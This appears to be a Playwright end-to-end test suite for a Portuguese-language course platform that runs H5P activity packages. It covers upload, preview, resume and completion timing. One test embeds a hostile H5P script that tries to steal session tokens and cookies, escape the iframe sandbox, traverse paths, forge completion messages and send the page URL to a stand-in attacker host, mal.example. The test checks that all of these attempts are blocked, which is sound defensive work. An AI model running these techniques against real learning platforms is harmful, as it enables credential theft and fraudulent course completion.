import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Page } from '@playwright/test';
import { atividade, tocador } from './h5p.ts';
import { cursoComPacote, H5P } from './pacotes.ts';
import { expect, expectAccessible, signIn, START, startProgram, test as base } from './program.ts';

const test = base.extend({
  program: [
    // oxlint-disable-next-line no-empty-pattern
    async ({}, use) => {
      const program = await startProgram({ H5P_PLAYER: tocador() });
      await use(program);
      await program.stop();
    },
    START,
  ],
});

const ALUNO = 'gestor@habilita.example';
const tokenDe = (page: Page) =>
  page.evaluate(() => (sessionStorage.getItem('token') ?? '').replaceAll('"', ''));
const dentro = (page: Page, titulo: string) =>
  page.frameLocator(`iframe[title="${titulo}"]`).frameLocator('iframe[title="Conteúdo do pacote"]');
const passosDe = (page: Page) =>
  page.getByRole('status').filter({ hasText: 'O que este pacote fez nesta prévia' }).getByRole('listitem');
const gravacao = (page: Page, dito: RegExp) =>
  page.waitForResponse(
    (resposta) => resposta.url().includes('scormProgresso') && dito.test(resposta.request().postData() ?? ''),
  );

test('uma atividade H5P: o autor a envia e a vê na prévia; quem estuda erra, para, retoma, acerta e conclui', async ({
  page,
  program,
  browser,
}) => {
  const nome = 'Atividade H5P';
  await signIn(page, 'adm@habilita.example');
  const servico = { ...program, token: await tokenDe(page) };
  const endereco = await cursoComPacote(servico, { nome, bytes: atividade(), aluno: ALUNO, aula: H5P });

  const [, IdCurso = '', aula = ''] = /curso-aluno\/(\d+)\?.*(aula=\d+)/.exec(endereco) ?? [];
  await page.goto(`/#/curso/${IdCurso}/previa?${aula}`);
  await expect(passosDe(page).first()).toHaveText('Iniciou');
  await dentro(page, nome).getByRole('button', { name: 'Marcar' }).click();
  await dentro(page, nome).getByRole('button', { name: 'Certo' }).click();
  await expect(passosDe(page)).toHaveText([
    'Iniciou',
    'Gravou a situação',
    'Gravou a nota',
    /^Ainda não retomou/,
  ]);
  await page.getByRole('button', { name: 'Abrir de novo, de onde parou' }).click();
  await expect(passosDe(page).last()).toHaveText('Retomou de onde parou');
  await expect(dentro(page, nome).locator('#estado')).toHaveText('tela 3');
  await expectAccessible(page);

  const contexto = await browser.newContext({ baseURL: program.url, viewport: { width: 360, height: 740 } });
  const aluno = await contexto.newPage();
  await signIn(aluno, ALUNO);
  await aluno.goto(endereco);
  const estado = dentro(aluno, nome).locator('#estado');
  await expect(dentro(aluno, nome).getByRole('heading', { name: 'O cinto vai sempre preso?' })).toBeVisible();
  await expect(estado).toHaveText('nenhuma');
  const errou = gravacao(aluno, /"failed"/);
  await dentro(aluno, nome).getByRole('button', { name: 'Errado' }).click();
  expect(await (await errou).json()).toMatchObject({ Concluida: false, FaltamSegundos: 0 });
  const parou = gravacao(aluno, /tela 3/);
  await dentro(aluno, nome).getByRole('button', { name: 'Marcar' }).click();
  await expect(estado).toHaveText('tela 3');
  await expectAccessible(aluno);
  // Leaving tells the last of it.
  await aluno.goto('/#/cursos-aluno');
  await parou;
  await aluno.goto(endereco);
  await expect(estado).toHaveText('tela 3');
  await dentro(aluno, nome).getByRole('button', { name: 'Certo' }).click();
  // The first seconds are too few to be believed; then it counts by itself.
  await expect(aluno.getByRole('dialog', { name: 'Curso concluído' })).toBeVisible();
  await aluno.reload();
  await expect(aluno.getByText('Aula concluída').first()).toBeVisible();
  await contexto.close();
});

test('o autor lê por que um pacote H5P não serve, troca-o por um que serve e pede uma nota', async ({
  page,
  program,
}) => {
  const nome = 'Atividade a trocar';
  await signIn(page, 'adm@habilita.example');
  const servico = { ...program, token: await tokenDe(page) };
  const endereco = await cursoComPacote(servico, { nome, bytes: atividade(), aluno: ALUNO, aula: H5P });
  await page.goto(`/#/curso/${/curso-aluno\/(\d+)/.exec(endereco)?.[1]}`);
  await page.getByRole('button', { name: new RegExp(`^${nome}`) }).click();
  const gaveta = page.getByRole('dialog');
  await expect(gaveta.getByText('Atividade lida: H5P.Pergunta 1.2')).toBeVisible();
  await gaveta.getByRole('button', { name: 'Remover' }).click();
  const pacoteH5p = (buffer: Buffer) => ({ name: 'cinto.h5p', mimeType: 'application/octet-stream', buffer });
  const semBiblioteca = atividade('', {
    'content/content.json': JSON.stringify({ partes: [{ library: 'H5P.Image 1.1', params: {} }] }),
  });
  await gaveta.getByLabel('Pacote H5P').setInputFiles(pacoteH5p(semBiblioteca));
  await expect(
    gaveta.getByText(/Falta neste pacote uma biblioteca .* H5P\.Image 1\.1\./).first(),
  ).toBeVisible();
  await expectAccessible(page);
  await gaveta.getByRole('button', { name: 'Remover' }).click();
  await gaveta.getByLabel('Pacote H5P').setInputFiles(pacoteH5p(atividade()));
  await expect(gaveta.getByText('Atividade lida: H5P.Pergunta 1.2')).toBeVisible();
  const minutos = page.waitForResponse(
    (resposta) => /"MinutosParaConcluir":5\b/.test(resposta.request().postData() ?? '') && resposta.ok(),
  );
  const campoDosMinutos = gaveta.getByLabel('Concluir depois de aberta por (minutos)');
  await campoDosMinutos.fill('5');
  expect(await (await minutos).json()).toMatchObject({ Conteudo: { MinutosParaConcluir: 5 } });
  await campoDosMinutos.fill('');
  const gravou = page.waitForResponse(
    (resposta) => /"NotaMinima":25\b/.test(resposta.request().postData() ?? '') && resposta.ok(),
  );
  await gaveta.getByLabel('Nota mínima para concluir (%)').fill('25');
  expect(await (await gravou).json()).toMatchObject({
    Conteudo: { Versao: 'h5p', Biblioteca: 'H5P.Pergunta 1.2', NotaMinima: 25, MinutosParaConcluir: null },
  });
  await expect(campoDosMinutos).toBeHidden();
});

test('uma atividade que nunca informa o fim conta desde que abre, pelos minutos que o autor pediu', async ({
  page,
  program,
  browser,
}) => {
  const nome = 'Imagem que se olha';
  await signIn(page, 'adm@habilita.example');
  const servico = { ...program, token: await tokenDe(page) };
  const aula = { ...H5P, Conteudo: { ...H5P.Conteudo, MinutosParaConcluir: 3 } };
  const endereco = await cursoComPacote(servico, { nome, bytes: atividade(), aluno: ALUNO, aula });
  const contexto = await browser.newContext({ baseURL: program.url, viewport: { width: 360, height: 740 } });
  const aluno = await contexto.newPage();
  await signIn(aluno, ALUNO);
  await aluno.goto(endereco);
  await expect(aluno.getByText('Falta o tempo mínimo desta aula')).toBeVisible();
  await expect(aluno.getByText(/será gravada em cerca de 3 min/)).toBeVisible();
  await contexto.close();
});

// proves T25
test('uma biblioteca hostil de um pacote H5P não alcança a nossa página, os seus segredos nem a API', async ({
  page,
  program,
}) => {
  const hostil = `
    H5P.Pergunta = function () { H5P.EventDispatcher.call(this); };
    H5P.Pergunta.prototype = Object.create(H5P.EventDispatcher.prototype);
    H5P.Pergunta.prototype.attach = function ($lugar) {
      var saldo = [];
      var lugar = $lugar[0];
      lugar.innerHTML = '<pre id="saldo"></pre>';
      function tentar(nome, f) { try { var v = f(); saldo.push(nome + ': ' + (v === undefined || v === null || v === '' ? 'nada' : 'OBTEVE ' + v)); } catch (e) { saldo.push(nome + ': nada'); } }
      tentar('topo', function () { return top.document.title; });
      tentar('segredo', function () { return top.sessionStorage.length; });
      tentar('origem', function () { return self.origin === new URL('PAGINA').origin ? 'a da página' : ''; });
      tentar('cookie', function () { return document.cookie; });
      tentar('armazenamento', function () { return sessionStorage.getItem('token') || ''; });
      tentar('navegar', function () { top.location = 'https://mal.example/'; });
      tentar('janela', function () { var w = window.open('PAGINA', 'x'); return w && w.document.title; });
      tentar('moldura', function () { parent.frameElement.removeAttribute('sandbox'); return 'sim'; });
      function fim(nome) { return [function (r) { return r.text().then(function (t) { saldo.push(nome + ': ' + (r.ok ? 'OBTEVE ' + t : 'nada')); }); }, function () { saldo.push(nome + ': nada'); }]; }
      var a = fim('api'), b = fim('fora'), c = fim('documentação'), d = fim('servidor');
      Promise.all([
        fetch('PAGINA/api/aluno/cursos', { credentials: 'include' }).then(a[0], a[1]),
        fetch(new URL('/api/docs/json', document.URL)).then(c[0], c[1]),
        fetch('__tocador/fonts/..%2f..%2fpackage.json').then(d[0], d[1]),
        fetch('https://mal.example/?x=' + document.URL).then(b[0], b[1]),
        fetch('content/dados.json').then(function (r) { return r.text(); }).then(function (t) { saldo.push('próprio: ' + t); })
      ]).then(function () { lugar.querySelector('#saldo').textContent = saldo.join('\\n'); });
      top.postMessage({ Cmi: { 'cmi.completion_status': 'completed' }, urgente: true }, '*');
      top.postMessage({ tipo: 'scorm' }, '*', [new MessageChannel().port2]);
    };`.replaceAll('PAGINA', program.url);
  await signIn(page, 'adm@habilita.example');
  const servico = { ...program, token: await tokenDe(page) };
  const [nome, aluno] = ['Atividade hostil', 'admaluno@habilita.example'];
  const bytes = atividade(hostil, { 'content/dados.json': '{"meu":1}' });
  const endereco = await cursoComPacote(servico, { nome, bytes, aluno, aula: H5P });
  const contexto = await page.context().browser()?.newContext({ baseURL: program.url });
  if (!contexto) throw new Error('no browser');
  const outra = await contexto.newPage();
  await signIn(outra, aluno);
  await outra.goto(endereco);
  const saldo = dentro(outra, nome).locator('#saldo');
  await expect(saldo).toContainText('próprio: {"meu":1}');
  await expect(saldo).not.toContainText('OBTEVE');
  await expect(outra).toHaveURL(/curso-aluno/);
  await expect(outra.getByText('Aula concluída')).toHaveCount(0);
  await contexto.close();
});

const PACOTES = process.env['H5P_PACOTES'] ?? '';

test('pacotes H5P de outros iniciam no tocador de outros', async ({ browser, program }) => {
  test.skip(!PACOTES || !process.env['H5P_PLAYER'], 'sem tocador e pacotes de outros');
  // What they say on the console is theirs: some ask for what is elsewhere, and are refused.
  const contexto = await browser.newContext({ baseURL: program.url });
  const page = await contexto.newPage();
  await signIn(page, 'adm@habilita.example');
  const servico = { ...program, token: await tokenDe(page) };
  const nomes = readdirSync(PACOTES).filter((nome) => nome.endsWith('.h5p'));
  expect(nomes).not.toEqual([]);
  // One that fails stands in no other's way.
  const falhas: string[] = [];
  for (const nome of nomes) {
    const passo = test.step(nome, async () => {
      const bytes = readFileSync(join(PACOTES, nome));
      const endereco = await cursoComPacote(servico, { nome, bytes, aluno: ALUNO, aula: H5P });
      const [, IdCurso = '', aula = ''] = /curso-aluno\/(\d+)\?.*(aula=\d+)/.exec(endereco) ?? [];
      await page.goto(`/#/curso/${IdCurso}/previa?${aula}`);
      await expect(passosDe(page).first()).toHaveText('Iniciou');
      await expect(dentro(page, nome).locator('.h5p-container')).not.toBeEmpty();
      const verdadeiro = dentro(page, nome).locator('.h5p-true-false-answer');
      if ((await verdadeiro.count()) === 0) return;
      await verdadeiro.last().click();
      await dentro(page, nome).getByRole('button', { name: /check/i }).click();
      await expect(passosDe(page).nth(1)).toHaveText('Gravou a situação');
      await expect(passosDe(page).nth(2)).toHaveText('Gravou a nota');
      await page.getByRole('button', { name: 'Abrir de novo, de onde parou' }).click();
      await expect(passosDe(page).last()).toHaveText('Retomou de onde parou');
    });
    await passo.catch((falha: Error) => falhas.push(`${nome}: ${falha.message}`));
  }
  await contexto.close();
  expect(falhas).toEqual([]);
});
